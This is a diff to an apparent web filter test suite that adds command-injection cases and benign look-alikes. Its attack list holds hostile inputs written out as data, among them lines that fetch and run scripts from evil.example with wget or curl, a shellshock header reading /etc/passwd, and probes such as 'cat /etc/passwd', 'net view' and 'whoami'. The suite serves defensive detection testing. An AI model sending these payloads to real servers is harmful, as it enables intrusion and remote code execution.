@@ -61,7 +61,22 @@ const ATTACKS: Record<string, Case[]> = {
     inQuery('`uname -a`', 'q'),
     inQuery('x; wget http://evil.example/x.sh -O /tmp/x; sh /tmp/x', 'q'),
     inQuery('1 && curl http://evil.example/a | sh', 'q'),
-    { name: 'shellshock in the user agent', target: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "cat /etc/passwd"' }
+    { name: 'shellshock in the user agent', target: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "cat /etc/passwd"' },
+    // a command line as the whole value: options, or a system path as its argument
+    inQuery('/bin/ls -al', 'cmd'),
+    inQuery('cat /etc/passwd', 'file'),
+    raw('/search?q=+dir+c:/'),
+    raw('/search?q=+dir+c:+|'),
+    raw('/admin/exec.php3?cmd=dir%20c:%5c'),
+    inQuery('ipconfig /all', 'q'),
+    // Windows binaries by their file name, after a quote that closes the application's own
+    inQuery('ping.exe -n 31 127.0.0.1', 'host'),
+    inQuery('" ping.exe -n 31 127.0.0.1', 'host'),
+    // a pipe to a binary whose first slash was lost; a command alone after an ampersand opening the value
+    inQuery('|usr/bin/id', 'q'),
+    inQuery('& id', 'ip'),
+    inQuery('& net view', 'ip'),
+    inQuery("exec('whoami')", 'code')
   ],
   jndi: [
     inQuery('${jndi:ldap://x/a}'),
@@ -120,6 +135,15 @@ const BENIGN: Case[] = [
   raw('/images/2024/cat.jpg'),
   inQuery('john.doe@example.com', 'email'),
   inQuery('C++ tutorial'),
+  // command words that are no command line: a flag closed by ";", a sort key, prose around "&", a "-"
+  raw('/prefs?dark=true;'),
+  raw('/prefs?compact=false|'),
+  raw('/orders?sort=id&dir=asc'),
+  inQuery('LC & NC - Boys038-XL.jpg'),
+  inQuery('ping pong table'),
+  inQuery('cat /dog toys'),
+  inQuery('Tom & Jerry'),
+  inQuery('echo a: the band'),
   { name: 'Googlebot', target: '/robots.txt', ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
   { name: 'a referrer with a query', target: '/products/42', referer: 'https://www.google.com/search?q=best+select+shoes&ie=UTF-8' }
 ];
